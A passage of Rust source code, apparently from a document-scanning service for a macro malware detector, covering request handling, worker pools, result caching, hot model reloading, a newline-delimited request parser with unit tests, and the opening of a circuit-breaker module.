                    None => shared.policy.metrics.record(Stage::ReloadFailed, 1),
                }
            }
            match listener.accept() {
                Ok(Some(stream)) => {
                    let tx = tx.clone();
                    let shared = &shared;
                    scope.spawn(move || handle_connection(shared, stream, &tx));
                }
                // Nobody waiting (or a transient accept error): nap one
                // drain-poll tick.
                Ok(None) | Err(_) => thread::sleep(config.drain_poll),
            }
        }
        // Drain sequence: dropping the accept loop's sender starts the
        // cascade — connection threads notice the latch on their next
        // read timeout and exit (dropping their clones), the workers'
        // receiver then disconnects once the queue is empty, and the
        // scope join waits for all of it. In-flight requests finish and
        // get their responses; nothing is abandoned.
        drop(tx);
    });

    let mut sink = shared.journal.into_inner().unwrap();
    sink.sync();
    metrics.record(Stage::ServeDrains, 1);
    ServeSummary {
        accepted: shared.accepted.load(Ordering::Relaxed),
        shed: shared.shed.load(Ordering::Relaxed),
        responses: shared.responses.load(Ordering::Relaxed),
        drained: true,
        journal_error: sink.error.clone(),
        metrics: metrics.snapshot(),
    }
}

/// Loads a detector from `path` and swaps it in as the next generation.
/// Returns the new generation, or the human-readable reason the old one
/// keeps serving — a failed reload changes nothing.
fn try_reload(shared: &Shared<'_>, path: &str) -> Result<Arc<Generation>, String> {
    let metrics = &shared.policy.metrics;
    // One reload at a time, end to end: concurrent requests queue here
    // and the last to swap owns the final generation number.
    let _serial = shared.reload_serial.lock().expect("reload lock poisoned");
    let start = Instant::now();
    let loaded = load_model(path);
    match loaded {
        Err(detail) => {
            metrics.record(Stage::ReloadFailed, 1);
            Err(detail)
        }
        Ok(detector) => {
            let bound = cache::BoundCache::bind(&detector, &shared.policy);
            let fingerprint = cache::detector_fingerprint(&detector);
            let generation = {
                let mut current = shared.generation.lock().expect("generation lock poisoned");
                let next = Arc::new(Generation {
                    number: current.number + 1,
                    detector,
                    bound,
                    fingerprint,
                    version: path.to_string(),
                    loaded: Instant::now(),
                });
                *current = Arc::clone(&next);
                next
            };
            // The swap is the remediation an open breaker's probe cycle
            // exists to discover: whatever was crash-looping belonged to
            // the generation that just left, so start the new one clean.
            shared.breaker.close();
            metrics.record(Stage::ReloadSuccess, 1);
            metrics.record(
                Stage::ReloadNs,
                u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX),
            );
            Ok(generation)
        }
    }
}

/// Reads and parses one saved model file. The `serve::reload-corrupt`
/// faultpoint simulates a malformed model landing on disk without
/// needing one — the chaos soak uses it alongside real corrupt files.
fn load_model(path: &str) -> Result<Detector, String> {
    if vbadet_faultpoint::fire("serve::reload-corrupt").is_some() {
        return Err(format!("loading {path}: injected corrupt model"));
    }
    let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
    Detector::load(&text).map_err(|e| format!("loading {path}: {e}"))
}

/// One scan worker: dequeues jobs until the channel drains at shutdown.
/// In isolate mode the worker owns a persistent [`Slot`] — the same
/// respawn-backoff / crash-loop / quarantine discipline as the batch
/// supervisor, amortizing worker processes across requests. The slot is
/// tagged with the generation whose hello built it and rebuilt *lazily*:
/// the first job pinned to a newer generation retires the old child and
/// spawns one speaking the new detector, so a reload never stalls the
/// pool — workers with queued old-generation jobs keep draining them.
fn worker_loop(shared: &Shared<'_>, rx: &Mutex<mpsc::Receiver<Job>>) {
    let metrics = &shared.policy.metrics;
    let mut slot: Option<(u64, Slot<'_>)> = None;
    loop {
        let job = {
            let rx = rx.lock().unwrap();
            rx.recv()
        };
        let Ok(job) = job else { break };
        shared.depth.fetch_sub(1, Ordering::Relaxed);
        if let Some(cfg) = &shared.policy.isolate {
            if slot
                .as_ref()
                .is_some_and(|(built_for, _)| *built_for != job.generation.number)
            {
                let (_, old) = slot.take().expect("checked above");
                old.finish();
            }
            if slot.is_none() {
                let hello = hello_frame(
                    &job.generation.detector,
                    &shared.policy,
                    job.generation.number,
                );
                let heartbeat = cfg
                    .heartbeat
                    .unwrap_or_else(|| default_heartbeat(&shared.policy));
                slot = Some((
                    job.generation.number,
                    Slot::new(cfg, hello, heartbeat, metrics),
                ));
            }
        }
        let outcome = scan_job(shared, slot.as_mut().map(|(_, s)| s), &job);
        let fatal = matches!(
            outcome,
            ScanOutcome::Failed {
                class: FailureClass::Fatal,
                ..
            }
        );
        shared.breaker.report(job.probe, fatal);
        let record = ScanRecord {
            path: PathBuf::from(&job.key),
            outcome,
        };
        {
            let mut journal = shared.journal.lock().unwrap();
            journal.checkpoint(&record, false);
        }
        record_outcome(metrics, &record.outcome);
        metrics.record(
            Stage::ServeRequestNs,
            u64::try_from(job.admitted.elapsed().as_nanos()).unwrap_or(u64::MAX),
        );
        // A gone connection (client hung up mid-scan) is fine: the
        // outcome is journaled either way.
        let _ = job.reply.send(record.outcome);
    }
    if let Some((_, slot)) = slot {
        slot.finish();
    }
}

/// Produces the terminal outcome for one job. The `serve::inject-death`
/// faultpoint simulates a systemic worker failure (the signal that feeds
/// the breaker) without needing real crashing documents; it fires before
/// the cache and single-flight layers, so an injected death is per-job
/// and never cached or shared.
fn scan_job(shared: &Shared<'_>, slot: Option<&mut Slot<'_>>, job: &Job) -> ScanOutcome {
    if vbadet_faultpoint::fire("serve::inject-death").is_some() {
        return ScanOutcome::Failed {
            class: FailureClass::Fatal,
            detail: "injected worker death".to_string(),
        };
    }
    match &job.generation.bound {
        None => scan_job_direct(shared, &job.generation, slot, &job.target),
        Some(bound) => scan_job_cached(shared, bound, slot, job),
    }
}

/// The cache-off dispatch: exactly the pre-cache service behavior, under
/// the job's pinned generation.
fn scan_job_direct(
    shared: &Shared<'_>,
    generation: &Generation,
    slot: Option<&mut Slot<'_>>,
    target: &ScanTarget,
) -> ScanOutcome {
    match (slot, target) {
        (None, ScanTarget::Path(p)) => {
            scan_file(&generation.detector, Path::new(p), &shared.policy, None)
        }
        (None, ScanTarget::Bytes(bytes)) => {
            scan_bytes_with_policy(&generation.detector, bytes, &shared.policy)
        }
        (Some(slot), ScanTarget::Path(p)) => {
            let (outcome, deltas) = slot.scan(p);
            cache::replay_deltas(&shared.policy.metrics, &deltas);
            outcome
        }
        (Some(slot), ScanTarget::Bytes(bytes)) => {
            let (outcome, deltas, _) = spool_and_scan(shared, slot, bytes);
            cache::replay_deltas(&shared.policy.metrics, &deltas);
            outcome
        }
    }
}

/// Isolate workers scan by path: spool the inline bytes to a temp file
/// for the round trip. The third element reports whether the worker
/// actually scanned the spooled bytes (a failed spool produces a typed
/// `Io` outcome that must never be cached under the bytes' digest).
fn spool_and_scan(
    shared: &Shared<'_>,
    slot: &mut Slot<'_>,
    bytes: &[u8],
) -> (ScanOutcome, cache::Deltas, bool) {
    let spool = std::env::temp_dir().join(format!(
        "vbadet-serve-inline-{}-{}.bin",
        std::process::id(),
        shared.inline_seq.fetch_add(1, Ordering::Relaxed)
    ));
    if let Err(e) = std::fs::write(&spool, bytes) {
        return (
            ScanOutcome::Failed {
                class: FailureClass::Io,
                detail: format!("spooling inline bytes: {e}"),
            },
            Vec::new(),
            false,
        );
    }
    let (outcome, deltas) = slot.scan(&spool.display().to_string());
    let _ = std::fs::remove_file(&spool);
    (outcome, deltas, true)
}

/// How one job's content digest resolved, before any cache traffic.
enum Resolved {
    /// Digestible; the bytes ride along when the read already happened
    /// in-process (path target without an isolate slot).
    Digest(cache::ContentDigest, Option<Vec<u8>>),
    /// The checked read produced a typed outcome (missing file, over the
    /// cap, grew during read) — return it directly; it is byte-identical
    /// to what the uncached scan path would have said.
    Typed(ScanOutcome),
    /// Not digestible supervisor-side (isolate path target unreadable
    /// under the cap): bypass cache and single-flight so the worker
    /// classifies the trouble exactly as an uncached run would.
    Bypass,
}

/// The cached dispatch: resolve the content digest, join the per-key
/// single-flight, and either follow (replay the leader's published
/// result) or lead (cache lookup, scan on miss, publish for followers).
fn scan_job_cached(
    shared: &Shared<'_>,
    bound: &cache::BoundCache,
    slot: Option<&mut Slot<'_>>,
    job: &Job,
) -> ScanOutcome {
    let metrics = &shared.policy.metrics;
    let resolved = match (slot.is_some(), &job.target) {
        (false, ScanTarget::Path(p)) => {
            match read_file_checked(Path::new(p), shared.policy.limits.max_file_size) {
                Ok(bytes) => Resolved::Digest(cache::sha256(&bytes), Some(bytes)),
                Err(outcome) => Resolved::Typed(outcome),
            }
        }
        (true, ScanTarget::Path(p)) => {
            match cache::digest_path_under_cap(Path::new(p), shared.policy.limits.max_file_size) {
                Some(digest) => Resolved::Digest(digest, None),
                None => Resolved::Bypass,
            }
        }
        (_, ScanTarget::Bytes(bytes)) => Resolved::Digest(cache::sha256(bytes), None),
    };
    let (digest, held_bytes) = match resolved {
        Resolved::Digest(digest, bytes) => (digest, bytes),
        Resolved::Typed(outcome) => return outcome,
        Resolved::Bypass => return scan_job_direct(shared, &job.generation, slot, &job.target),
    };

    // Join the flight *before* the cache lookup: two concurrent identical
    // requests must rendezvous even when neither has inserted yet.
    let key = bound.key(digest);
    let flight = {
        let mut inflight = shared.inflight.lock().expect("inflight lock poisoned");
        match inflight.get(&key) {
            Some(flight) => {
                let flight = Arc::clone(flight);
                drop(inflight);
                // Follower: wait for the leader's terminal result. A
                // shared result counts as a hit — the document was not
                // re-scanned — and replays the leader's counter deltas
                // exactly like a cache hit.
                let mut result = flight.result.lock().expect("flight lock poisoned");
                while result.is_none() {
                    result = flight.cv.wait(result).expect("flight lock poisoned");
                }
                let (outcome, deltas) = result.as_ref().expect("checked above").clone();
                drop(result);
                metrics.record(Stage::CacheHits, 1);
                cache::replay_deltas(metrics, &deltas);
                return outcome;
            }
            None => {
                let flight = Arc::new(Flight::new());
                inflight.insert(key, Arc::clone(&flight));
                flight
            }
        }
    };

    // Leader: every path below must publish, or followers hang.
    let (outcome, deltas) = match slot {
        None => {
            let bytes: &[u8] = match (&held_bytes, &job.target) {
                (Some(bytes), _) => bytes,
                (None, ScanTarget::Bytes(bytes)) => bytes,
                (None, ScanTarget::Path(_)) => unreachable!("path bytes held when in-process"),
            };
            scan_bytes_cached_digest(
                &job.generation.detector,
                bytes,
                &shared.policy,
                bound,
                digest,
            )
        }
        Some(slot) => match bound.lookup(digest, metrics) {
            Some((outcome, deltas)) => {
                cache::replay_deltas(metrics, &deltas);
                (outcome, deltas)
            }
            None => match &job.target {
                ScanTarget::Path(p) => {
                    // Same TOCTOU guard as the batch supervisor: the
                    // worker re-reads the file, so only insert when the
                    // file provably did not change under the digest.
                    let stamp = file_stamp(Path::new(p));
                    let (outcome, deltas) = slot.scan(p);
                    cache::replay_deltas(metrics, &deltas);
                    if stamp.is_some() && stamp == file_stamp(Path::new(p)) {
                        bound.insert(digest, &outcome, &deltas, metrics);
                    }
                    (outcome, deltas)
                }
                ScanTarget::Bytes(bytes) => {
                    let (outcome, deltas, scanned) = spool_and_scan(shared, slot, bytes);
                    cache::replay_deltas(metrics, &deltas);
                    if scanned {
                        bound.insert(digest, &outcome, &deltas, metrics);
                    }
                    (outcome, deltas)
                }
            },
        },
    };
    {
        let mut result = flight.result.lock().expect("flight lock poisoned");
        *result = Some((outcome.clone(), deltas));
        flight.cv.notify_all();
    }
    shared
        .inflight
        .lock()
        .expect("inflight lock poisoned")
        .remove(&key);
    outcome
}

/// One connection: a hand-rolled bounded line reader over the stream,
/// dispatching each complete line and polling the drain latch on read
/// timeouts. The connection closes on EOF, an unwritable client, an
/// over-cap line, or a drain.
fn handle_connection(shared: &Shared<'_>, stream: Box<dyn Stream>, tx: &mpsc::SyncSender<Job>) {
    let _ = stream.set_read_timeout(Some(shared.config.drain_poll));
    let mut stream = stream;
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        while let Some(pos) = buf.iter().position(|&b| b == b'\n') {
            let line: Vec<u8> = buf.drain(..=pos).collect();
            let line = String::from_utf8_lossy(&line);
            let line = line.trim();
            if line.is_empty() {
                // Blank lines are keep-alive noise, not requests.
                continue;
            }
            if handle_line(shared, &mut *stream, tx, line).is_err() {
                return;
            }
        }
        if buf.len() > MAX_REQUEST_LINE_BYTES {
            // The line cannot be buffered to completion; answer typed,
            // then hang up (the rest of the line is unframeable).
            let mut responder = Responder::new(&mut *stream, None, &shared.responses);
            let _ = responder.error("oversized", Some("request line over the 1 MiB cap"), None);
            return;
        }
        match stream.read(&mut chunk) {
            Ok(0) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e)
                if matches!(
                    e.kind(),
                    io::ErrorKind::WouldBlock
                        | io::ErrorKind::TimedOut
                        | io::ErrorKind::Interrupted
                ) =>
            {
                if interrupt::drain_requested() {
                    return;
                }
            }
            Err(_) => return,
        }
    }
}

/// Dispatches one request line. `Err` means the client is unwritable and
/// the connection should close; protocol-level problems are answered
/// in-band and return `Ok`.
fn handle_line(
    shared: &Shared<'_>,
    w: &mut dyn Write,
    tx: &mpsc::SyncSender<Job>,
    line: &str,
) -> io::Result<()> {
    let request = match parse_request(line) {
        Ok(request) => request,
        Err(detail) => {
            return Responder::new(w, None, &shared.responses).error(
                "bad-request",
                Some(&detail),
                None,
            );
        }
    };
    let mut responder = Responder::new(w, request.id, &shared.responses);
    match request.verb {
        Verb::Health => {
            let body = format!(
                "\"op\":\"health\",\"draining\":{},\"breaker\":{},\"queue_depth\":{}",
                interrupt::drain_requested(),
                json_str(shared.breaker.state_label()),
                shared.depth.load(Ordering::Relaxed),
            );
            responder.ok(&body)
        }
        Verb::Ready => {
            let reason = if interrupt::drain_requested() {
                Some("draining")
            } else if shared.breaker.state_label() == "open" {
                Some("breaker-open")
            } else {
                None
            };
            match reason {
                None => responder.ok("\"op\":\"ready\",\"ready\":true"),
                Some(reason) => responder.ok(&format!(
                    "\"op\":\"ready\",\"ready\":false,\"reason\":{}",
                    json_str(reason)
                )),
            }
        }
        Verb::Metrics => {
            let snap = shared
                .policy
                .metrics
                .snapshot()
                .expect("serve always enables its metrics sink");
            // The snapshot's pretty JSON is whitespace-insensitive and
            // contains none inside tokens, so squeezing it yields the
            // single-line form the wire protocol needs.
            let compact: String = snap.to_json().split_whitespace().collect();
            responder.ok(&format!("\"op\":\"metrics\",\"metrics\":{compact}"))
        }
        Verb::Model => {
            let generation = shared.current();
            responder.ok(&format!(
                "\"op\":\"model\",\"generation\":{},\"version\":{},\"fingerprint\":{},\
                 \"loaded_ms_ago\":{}",
                generation.number,
                json_str(&generation.version),
                json_str(&format!("{:016x}", generation.fingerprint)),
                generation.loaded.elapsed().as_millis(),
            ))
        }
        Verb::Reload(path) => {
            if interrupt::drain_requested() {
                // A drain is a promise to finish what is in flight and
                // stop; swapping models mid-drain buys nothing and
                // muddies the accounting. The drain completes untouched.
                return responder.error(
                    "draining",
                    Some("reload rejected: the service is draining"),
                    None,
                );
            }
            match try_reload(shared, &path) {
                Ok(generation) => responder.ok(&format!(
                    "\"op\":\"reload\",\"generation\":{},\"version\":{},\"fingerprint\":{}",
                    generation.number,
                    json_str(&generation.version),
                    json_str(&format!("{:016x}", generation.fingerprint)),
                )),
                Err(detail) => responder.error("reload-failed", Some(&detail), None),
            }
        }
        Verb::Scan(target) => handle_scan(shared, responder, tx, target),
    }
}

/// Admission control for one scan: drain gate, breaker gate, bounded
/// queue, then wait for the worker's terminal outcome.
fn handle_scan(
    shared: &Shared<'_>,
    mut responder: Responder<'_>,
    tx: &mpsc::SyncSender<Job>,
    target: ScanTarget,
) -> io::Result<()> {
    if interrupt::drain_requested() {
        return responder.error("draining", None, None);
    }
    let probe = match shared.breaker.admit() {
        Admission::Reject { retry_ms } => {
            return responder.error("breaker-open", None, Some(retry_ms));
        }
        Admission::Admit { probe } => probe,
    };
    let key = match &target {
        ScanTarget::Path(p) => p.clone(),
        ScanTarget::Bytes(_) => format!(
            "inline:{}",
            shared.inline_seq.fetch_add(1, Ordering::Relaxed)
        ),
    };
    let (reply_tx, reply_rx) = mpsc::sync_channel::<ScanOutcome>(1);
    // Pin the generation at admission: this is the one the response is
    // stamped with and the one whose detector scans the document, even
    // if reloads land while the job waits in the queue.
    let generation = shared.current();
    let generation_number = generation.number;
    let job = Job {
        target,
        key,
        probe,
        generation,
        reply: reply_tx,
        admitted: Instant::now(),
    };
    // Count the depth up before offering the job so a worker's decrement
    // can never race it below zero.
    let depth = shared.depth.fetch_add(1, Ordering::Relaxed) + 1;
    match tx.try_send(job) {
        Ok(()) => {}
        Err(mpsc::TrySendError::Full(job)) => {
            shared.depth.fetch_sub(1, Ordering::Relaxed);
            if job.probe {
                // The probe never reached a worker; re-arm the breaker so
                // the next admit can mint a fresh one.
                shared.breaker.probe_abandoned();
            }
            shared.shed.fetch_add(1, Ordering::Relaxed);
            shared.policy.metrics.record(Stage::ServeShed, 1);
            return responder.error("overloaded", None, None);
        }
        Err(mpsc::TrySendError::Disconnected(job)) => {
            shared.depth.fetch_sub(1, Ordering::Relaxed);
            if job.probe {
                shared.breaker.probe_abandoned();
            }
            return responder.error("draining", None, None);
        }
    }
    shared.accepted.fetch_add(1, Ordering::Relaxed);
    shared.policy.metrics.record(Stage::ServeAccepted, 1);
    shared
        .policy
        .metrics
        .record(Stage::ServeQueueDepth, depth as u64);
    match reply_rx.recv() {
        Ok(outcome) => responder.outcome(&outcome, generation_number),
        // Unreachable by design (workers always reply before exiting),
        // but the accounting survives even a worker bug: one typed
        // response, not a hang.
        Err(_) => responder.error("internal", Some("worker lost before replying"), None),
    }
}

/// Exactly-once terminal-response guard for one request line. Every send
/// increments the service-wide response counter; if a handler returns
/// without responding, the drop backstop emits a typed `internal` error
/// so the client is never left hanging.
struct Responder<'a> {
    w: &'a mut dyn Write,
    id: Option<String>,
    responses: &'a AtomicU64,
    sent: bool,
}

impl<'a> Responder<'a> {
    fn new(w: &'a mut dyn Write, id: Option<String>, responses: &'a AtomicU64) -> Self {
        Responder {
            w,
            id,
            responses,
            sent: false,
        }
    }

    fn id_field(&self) -> String {
        match &self.id {
            Some(id) => format!("\"id\":{},", json_str(id)),
            None => String::new(),
        }
    }

    fn write_line(&mut self, line: &str) -> io::Result<()> {
        // Mark sent before writing: a half-written line to a dead client
        // must not trigger a second (drop-guard) response attempt.
        self.sent = true;
        self.responses.fetch_add(1, Ordering::Relaxed);
        // One write for payload + newline: a separate 1-byte `\n` write
        // would sit behind Nagle until the payload segment is ACKed.
        let mut framed = Vec::with_capacity(line.len() + 1);
        framed.extend_from_slice(line.as_bytes());
        framed.push(b'\n');
        self.w.write_all(&framed)?;
        self.w.flush()
    }

    fn ok(&mut self, body: &str) -> io::Result<()> {
        self.write_line(&format!("{{\"ok\":true,{}{body}}}", self.id_field()))
    }

    fn outcome(&mut self, outcome: &ScanOutcome, generation: u64) -> io::Result<()> {
        self.ok(&format!(
            "\"op\":\"scan\",\"generation\":{generation},\"outcome\":{}",
            outcome_json(outcome)
        ))
    }

    fn error(&mut self, code: &str, detail: Option<&str>, retry_ms: Option<u64>) -> io::Result<()> {
        let mut body = format!(
            "{{\"ok\":false,{}\"error\":{}",
            self.id_field(),
            json_str(code)
        );
        if let Some(detail) = detail {
            body.push_str(&format!(",\"detail\":{}", json_str(detail)));
        }
        if let Some(ms) = retry_ms {
            body.push_str(&format!(",\"retry_ms\":{ms}"));
        }
        body.push('}');
        self.write_line(&body)
    }
}

impl Drop for Responder<'_> {
    fn drop(&mut self) {
        if !self.sent {
            let _ = self.error(
                "internal",
                Some("request fell through without a response"),
                None,
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn responder_drop_guard_emits_exactly_one_response() {
        let responses = AtomicU64::new(0);
        let mut out = Vec::new();
        {
            let _r = Responder::new(&mut out, Some("7".to_string()), &responses);
            // Dropped without responding: the backstop must answer.
        }
        let text = String::from_utf8(out).unwrap();
        assert_eq!(responses.load(Ordering::Relaxed), 1);
        assert!(text.contains("\"ok\":false"), "{text}");
        assert!(text.contains("\"id\":\"7\""), "{text}");
        assert!(text.contains("\"error\":\"internal\""), "{text}");
        assert_eq!(text.matches('\n').count(), 1);
    }

    #[test]
    fn responder_counts_each_terminal_response_once() {
        let responses = AtomicU64::new(0);
        let mut out = Vec::new();
        {
            let mut r = Responder::new(&mut out, None, &responses);
            r.error("overloaded", None, None).unwrap();
            // Drop after an explicit send must NOT answer again.
        }
        assert_eq!(responses.load(Ordering::Relaxed), 1);
        assert_eq!(String::from_utf8(out).unwrap().matches('\n').count(), 1);
    }

    #[test]
    fn error_responses_carry_retry_hint_and_detail() {
        let responses = AtomicU64::new(0);
        let mut out = Vec::new();
        Responder::new(&mut out, Some("a".to_string()), &responses)
            .error("breaker-open", Some("cooling down"), Some(250))
            .unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\"error\":\"breaker-open\""), "{text}");
        assert!(text.contains("\"detail\":\"cooling down\""), "{text}");
        assert!(text.contains("\"retry_ms\":250"), "{text}");
    }
}
