//! Wire protocol parser for the resident scan service.
//!
//! Requests are newline-delimited and come in two equivalent shapes:
//!
//! - **Text**: `scan <path>`, `metrics`, `health`, `ready`,
//!   `reload <path>`, `model` — the form a human types into `nc`/`socat`.
//! - **JSON**: `{"op":"scan","path":"…"}` (or `"bytes_hex":"…"` for an
//!   inline document) with an optional `"id"` (string or non-negative
//!   integer) the server echoes into the response, so a client
//!   multiplexing requests on one connection can correlate replies.
//!
//! Parsing is total: any line that is not a well-formed request yields a
//! typed error message, never a panic — the fuzz harness in
//! `tests/hostile_inputs.rs` holds the parser to that.

use crate::journal::{parse_json, Json};

/// Hard cap on one request line. The connection reader enforces this
/// *before* parsing (an unbounded line would otherwise buffer forever);
/// the parser re-checks it so it is safe on any input.
pub const MAX_REQUEST_LINE_BYTES: usize = 1 << 20;

/// What a scan request points at.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScanTarget {
    /// A path on the server's filesystem.
    Path(String),
    /// Document bytes shipped inline (hex-decoded from `bytes_hex`).
    Bytes(Vec<u8>),
}

/// The service verbs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verb {
    /// Scan one document through the service's robustness envelope.
    Scan(ScanTarget),
    /// Snapshot the service-wide [`ScanMetrics`](vbadet_metrics::ScanMetrics).
    Metrics,
    /// Liveness: state of the drain latch, breaker and queue.
    Health,
    /// Readiness: whether a scan sent now would be admitted.
    Ready,
    /// Hot-swap the detector from a saved model file on the server's
    /// filesystem; requests admitted before the swap finish under the
    /// generation that admitted them.
    Reload(String),
    /// Describe the live detector generation: version, fingerprint,
    /// load time, generation counter.
    Model,
}

/// One parsed request line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// What to do.
    pub verb: Verb,
    /// Client correlation id, echoed verbatim into the response.
    pub id: Option<String>,
}

impl Request {
    fn bare(verb: Verb) -> Self {
        Request { verb, id: None }
    }
}

/// Parses one request line (without its terminating newline).
///
/// # Errors
///
/// A human-readable description of why the line is not a request; the
/// server wraps it in a `bad-request` response.
pub fn parse_request(line: &str) -> Result<Request, String> {
    if line.len() > MAX_REQUEST_LINE_BYTES {
        return Err(format!(
            "request line is {} bytes, over the {MAX_REQUEST_LINE_BYTES}-byte cap",
            line.len()
        ));
    }
    let line = line.trim();
    if line.is_empty() {
        return Err("empty request".to_string());
    }
    if line.starts_with('{') {
        return parse_json_request(line);
    }
    match line.split_once(char::is_whitespace) {
        None => match line {
            "metrics" => Ok(Request::bare(Verb::Metrics)),
            "health" => Ok(Request::bare(Verb::Health)),
            "ready" => Ok(Request::bare(Verb::Ready)),
            "model" => Ok(Request::bare(Verb::Model)),
            "scan" => Err("scan without a path".to_string()),
            "reload" => Err("reload without a path".to_string()),
            other => Err(format!("unknown verb {other:?}")),
        },
        Some((verb, rest)) => {
            let rest = rest.trim();
            match verb {
                "scan" if rest.is_empty() => Err("scan without a path".to_string()),
                "scan" => Ok(Request::bare(Verb::Scan(ScanTarget::Path(
                    rest.to_string(),
                )))),
                "reload" if rest.is_empty() => Err("reload without a path".to_string()),
                "reload" => Ok(Request::bare(Verb::Reload(rest.to_string()))),
                other => Err(format!("unknown verb {other:?}")),
            }
        }
    }
}

fn parse_json_request(line: &str) -> Result<Request, String> {
    let j = parse_json(line).map_err(|e| format!("bad json: {e}"))?;
    let id = match j.get("id") {
        None => None,
        Some(Json::Str(s)) => Some(s.clone()),
        Some(v) => match v.as_u64() {
            Some(n) => Some(n.to_string()),
            None => return Err("id must be a string or a non-negative integer".to_string()),
        },
    };
    let op = j
        .get("op")
        .and_then(Json::as_str)
        .ok_or("request without op")?;
    let verb = match op {
        "metrics" => Verb::Metrics,
        "health" => Verb::Health,
        "ready" => Verb::Ready,
        "model" => Verb::Model,
        "reload" => match j.get("path").and_then(Json::as_str) {
            Some(p) if !p.is_empty() => Verb::Reload(p.to_string()),
            Some(_) => return Err("reload with an empty path".to_string()),
            None => return Err("reload without a path".to_string()),
        },
        "scan" => {
            let path = j.get("path").and_then(Json::as_str);
            let hex = j.get("bytes_hex").and_then(Json::as_str);
            match (path, hex) {
                (Some(_), Some(_)) => {
                    return Err("scan takes path or bytes_hex, not both".to_string())
                }
                (Some(p), None) if !p.is_empty() => Verb::Scan(ScanTarget::Path(p.to_string())),
                (Some(_), None) => return Err("scan with an empty path".to_string()),
                (None, Some(h)) => Verb::Scan(ScanTarget::Bytes(decode_hex(h)?)),
                (None, None) => return Err("scan without path or bytes_hex".to_string()),
            }
        }
        other => return Err(format!("unknown op {other:?}")),
    };
    Ok(Request { verb, id })
}

fn decode_hex(hex: &str) -> Result<Vec<u8>, String> {
    let bytes = hex.as_bytes();
    if !bytes.len().is_multiple_of(2) {
        return Err("bytes_hex has an odd number of digits".to_string());
    }
    let nibble = |b: u8| -> Result<u8, String> {
        match b {
            b'0'..=b'9' => Ok(b - b'0'),
            b'a'..=b'f' => Ok(b - b'a' + 10),
            b'A'..=b'F' => Ok(b - b'A' + 10),
            other => Err(format!("bytes_hex has a non-hex byte {:?}", other as char)),
        }
    };
    let mut out = Vec::with_capacity(bytes.len() / 2);
    for pair in bytes.chunks_exact(2) {
        out.push((nibble(pair[0])? << 4) | nibble(pair[1])?);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_verbs_parse() {
        assert_eq!(
            parse_request("scan /tmp/a.doc").unwrap(),
            Request::bare(Verb::Scan(ScanTarget::Path("/tmp/a.doc".to_string())))
        );
        assert_eq!(
            parse_request("scan  a path with spaces.doc ").unwrap(),
            Request::bare(Verb::Scan(ScanTarget::Path(
                "a path with spaces.doc".to_string()
            )))
        );
        assert_eq!(parse_request("metrics").unwrap().verb, Verb::Metrics);
        assert_eq!(parse_request(" health ").unwrap().verb, Verb::Health);
        assert_eq!(parse_request("ready").unwrap().verb, Verb::Ready);
        assert_eq!(parse_request("model").unwrap().verb, Verb::Model);
        assert_eq!(
            parse_request("reload /models/v2.det").unwrap().verb,
            Verb::Reload("/models/v2.det".to_string())
        );
        assert_eq!(
            parse_request("reload  a model with spaces.det ")
                .unwrap()
                .verb,
            Verb::Reload("a model with spaces.det".to_string())
        );
    }

    #[test]
    fn json_reload_and_model_parse() {
        let r = parse_request("{\"op\":\"reload\",\"path\":\"/m/v2.det\",\"id\":\"r-1\"}").unwrap();
        assert_eq!(r.id.as_deref(), Some("r-1"));
        assert_eq!(r.verb, Verb::Reload("/m/v2.det".to_string()));
        let r = parse_request("{\"op\":\"model\",\"id\":3}").unwrap();
        assert_eq!(r.id.as_deref(), Some("3"));
        assert_eq!(r.verb, Verb::Model);
    }

    #[test]
    fn json_scan_parses_with_ids() {
        let r = parse_request("{\"op\":\"scan\",\"path\":\"/x.doc\",\"id\":\"req-1\"}").unwrap();
        assert_eq!(r.id.as_deref(), Some("req-1"));
        assert_eq!(r.verb, Verb::Scan(ScanTarget::Path("/x.doc".to_string())));
        let r = parse_request("{\"op\":\"scan\",\"bytes_hex\":\"d0cf11e0\",\"id\":7}").unwrap();
        assert_eq!(r.id.as_deref(), Some("7"));
        assert_eq!(
            r.verb,
            Verb::Scan(ScanTarget::Bytes(vec![0xd0, 0xcf, 0x11, 0xe0]))
        );
    }

    #[test]
    fn hex_decoding_is_strict() {
        assert!(decode_hex("").unwrap().is_empty());
        assert_eq!(decode_hex("00ffAB").unwrap(), vec![0, 0xff, 0xab]);
        assert!(decode_hex("abc").is_err(), "odd length");
        assert!(decode_hex("zz").is_err(), "non-hex digit");
    }

    #[test]
    fn malformed_requests_fail_typed() {
        for bad in [
            "",
            "   ",
            "scan",
            "scan   ",
            "frobnicate",
            "metrics now",
            "{",
            "{}",
            "{\"op\":\"scan\"}",
            "{\"op\":\"scan\",\"path\":\"\"}",
            "{\"op\":\"scan\",\"path\":\"a\",\"bytes_hex\":\"00\"}",
            "{\"op\":\"scan\",\"bytes_hex\":\"xyz\"}",
            "reload",
            "reload   ",
            "{\"op\":\"reload\"}",
            "{\"op\":\"reload\",\"path\":\"\"}",
            "model now",
            "{\"op\":\"nope\"}",
            "{\"op\":\"scan\",\"path\":\"a\",\"id\":[1]}",
            "{\"op\":\"scan\",\"path\":\"a\",\"id\":-3}",
            "{\"op\":17}",
        ] {
            assert!(parse_request(bad).is_err(), "should reject {bad:?}");
        }
    }

    #[test]
    fn oversized_line_is_rejected_by_length_alone() {
        let line = format!("scan {}", "a".repeat(MAX_REQUEST_LINE_BYTES));
        assert!(parse_request(&line).is_err());
    }
}
