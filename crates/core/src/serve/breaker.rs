//! Circuit breaker guarding the service's worker pool.
//!
//! The isolate supervisor already absorbs individual worker deaths, but a
//! *systemic* failure — a bad deploy whose workers abort on every
//! document, a wedged filesystem — turns each admitted request into a
//! slow, doomed spawn-crash-respawn cycle. The breaker converts that into
//! fast, typed rejections: after [`threshold`](Breaker::new) consecutive
//! fatal outcomes it **opens** and rejects scans outright with a
//! `retry_ms` hint; after an exponentially growing cooldown it
//! **half-opens** and admits exactly one probe request; a probe success
//! closes the breaker, a probe failure re-opens it with a doubled
